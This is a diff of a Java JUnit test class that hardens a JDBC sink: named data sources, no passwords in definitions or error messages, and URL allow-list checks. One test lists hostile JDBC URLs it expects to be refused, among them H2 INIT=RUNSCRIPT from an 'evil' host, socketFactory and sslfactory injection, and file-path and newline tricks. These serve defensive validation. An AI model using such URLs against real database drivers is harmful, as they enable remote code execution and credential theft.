@@ -12,6 +12,7 @@ import java.util.concurrent.TimeUnit;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
+import io.xd.modules.HostAccess;
 import io.xd.modules.ModuleMessages;
 import io.xd.modules.ModuleOptionException;
 import io.xd.modules.builtin.file.ModuleFixtures;
@@ -31,10 +32,22 @@ class JdbcSinkTests {
 		return "jdbc:h2:file:" + this.dir.resolve("db");
 	}
 
+	/** The operator's settings: data sources "test" (H2 in the test's folder) and "down", and two URL patterns. */
+	private HostAccess access() {
+		return ModuleFixtures.rootedAt(this.dir)
+			.withDataSources(Map.of("test", new HostAccess.DataSource(url(), "sa", ""), "down",
+					new HostAccess.DataSource("jdbc:postgresql://127.0.0.1:1/none", "xd", "s3cret-pw")))
+			.withAllowedJdbcUrls(List.of("jdbc:postgresql://db.internal:5432/*", "jdbc:h2:mem:*"));
+	}
+
 	private JdbcSink sink(Map<String, String> options) {
-		Map<String, String> all = new HashMap<>(Map.of("url", url(), "username", "sa"));
+		Map<String, String> all = new HashMap<>(Map.of("dataSource", "test"));
 		all.putAll(options);
-		return ModuleFixtures.create(new JdbcSink.Provider(), all);
+		return ModuleFixtures.create(new JdbcSink.Provider(), all, access());
+	}
+
+	private JdbcSink sinkWithUrl(String url) {
+		return ModuleFixtures.create(new JdbcSink.Provider(), Map.of("url", url, "tableName", "t"), access());
 	}
 
 	@Test
@@ -120,17 +133,75 @@ class JdbcSinkTests {
 	}
 
 	@Test
-	void failsAtStartWithTheReasonWhenTheDatabaseRefusesTheConnection() {
-		JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(),
-				Map.of("url", "jdbc:postgresql://127.0.0.1:1/none", "tableName", "t"));
+	void failsAtStartWithTheReasonWhenTheDatabaseRefusesTheConnectionAndShowsNoUrlOrPassword() {
+		JdbcSink sink = sink(Map.of("dataSource", "down", "tableName", "t"));
 
 		assertThatIllegalStateException().isThrownBy(sink::start)
-			.withMessageContaining("The jdbc sink cannot use jdbc:postgresql://127.0.0.1:1/none")
-			.withMessageContaining("Connection");
+			.withMessageContaining("The jdbc sink cannot use data source 'down'")
+			.withMessageContaining("Connection")
+			.withMessageNotContaining("s3cret-pw");
 	}
 
 	@Test
-	void rejectsNamesThatAreNotIdentifiersAndUrlsThatLoadCode() {
+	void theEmbeddedH2DefaultNeedsNoSettings() throws SQLException {
+		Path data = this.dir.resolve("data");
+		JdbcSink sink = ModuleFixtures.create(new JdbcSink.Provider(), Map.of("tableName", "t", "initialize", "true"),
+				data);
+		sink.start();
+		sink.handleMessage(ModuleMessages.of("embedded"));
+		sink.stop();
+
+		try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + data.resolve("jdbc/xd"), "sa",
+				"")) {
+			assertThat(JdbcRows.query(connection, "SELECT payload FROM t")).containsExactly(List.of("embedded"));
+		}
+	}
+
+	@Test
+	void aDefinitionNamesADeclaredDataSourceAndCarriesNoPassword() {
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("dataSource", "nope", "tableName", "t")))
+			.withMessageContaining("no data source of that name")
+			.withMessageContaining("declared: down, test");
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("tableName", "t", "password", "x")))
+			.withMessageContaining("option 'password' is refused");
+		assertThatExceptionOfType(ModuleOptionException.class)
+			.isThrownBy(() -> sink(Map.of("tableName", "t", "url", "jdbc:h2:mem:x")))
+			.withMessageContaining("refused with 'dataSource'");
+	}
+
+	@Test
+	void aLiteralUrlMustMatchTheOperatorsPatternsAsTheDriverReadsIt() {
+		assertThat(sinkWithUrl("jdbc:postgresql://db.internal:5432/orders?ApplicationName=xd&connectTimeout=5"))
+			.isNotNull();
+		assertThat(sinkWithUrl("jdbc:postgresql://DB.internal/orders")).isNotNull();
+		assertThat(sinkWithUrl("jdbc:h2:mem:scratch;MODE=PostgreSQL;db_close_delay=-1")).isNotNull();
+		List<String> refused = List.of("jdbc:postgresql://evil:5432/orders", "jdbc:postgresql://db.internal:5433/x",
+				"jdbc:postgresql://db.internal:5432/orders?socketFactory=x.Y&socketFactoryArg=z",
+				"jdbc:postgresql://db.internal:5432/orders?%73ocketFactory=x.Y",
+				"jdbc:postgresql://db.internal:5432/orders?SOCKETFACTORY=x.Y",
+				"jdbc:postgresql://db.internal:5432/orders?sslfactory=x.Y",
+				"jdbc:postgresql://db.internal:5432/orders?sslrootcert=/etc/xd/credentials.properties",
+				"jdbc:postgresql://db.internal:5432/orders?loggerFile=/tmp/x&loggerLevel=DEBUG",
+				"jdbc:postgresql://db.internal:5432/orders?options=-c%20search_path%3Devil",
+				"jdbc:postgresql://db.internal:5432/orders?password=p&user=u",
+				"jdbc:postgresql://db.internal:5432/a/../b", "jdbc:postgresql://db.internal,evil:5432/orders",
+				"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x;init=CREATE ALIAS",
+				"jdbc:h2:mem:x; INIT =x", "jdbc:h2:mem:x;AUTO_SERVER=TRUE", "jdbc:h2:mem:x;MODE=x;TRACE_LEVEL_FILE=3",
+				"jdbc:h2:tcp://evil/db", "jdbc:h2:file:/etc/db", "jdbc:h2:~/db", "jdbc:h2:zip:/x.zip!/db",
+				"jdbc:h2:mem:../x", "jdbc:mysql://h/db", "jdbc:h2:mem:x\n;INIT=x");
+		for (String url : refused) {
+			assertThatExceptionOfType(ModuleOptionException.class).as(url)
+				.isThrownBy(() -> sinkWithUrl(url))
+				.withMessageContaining("option 'url'")
+				.withMessageNotContaining("x.Y")
+				.withMessageNotContaining("password=p");
+		}
+	}
+
+	@Test
+	void rejectsNamesThatAreNotIdentifiers() {
 		assertThatExceptionOfType(ModuleOptionException.class)
 			.isThrownBy(() -> sink(Map.of("tableName", "t; DROP TABLE x")))
 			.withMessageContaining("option 'tableName' must be an SQL identifier");
@@ -139,12 +210,6 @@ class JdbcSinkTests {
 			.withMessageContaining("option 'columns' must be a comma-separated list");
 		assertThatExceptionOfType(ModuleOptionException.class)
 			.isThrownBy(() -> sink(Map.of("tableName", "t", "columns", "a,A")));
-		assertThatExceptionOfType(ModuleOptionException.class)
-			.isThrownBy(() -> sink(Map.of("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")));
-		assertThatExceptionOfType(ModuleOptionException.class)
-			.isThrownBy(() -> sink(Map.of("url", "jdbc:postgresql://h/db?socketFactory=x.Y&socketFactoryArg=z")));
-		assertThatExceptionOfType(ModuleOptionException.class)
-			.isThrownBy(() -> sink(Map.of("url", "jdbc:mysql://h/db")));
 	}
 
 	private Connection connect() throws SQLException {
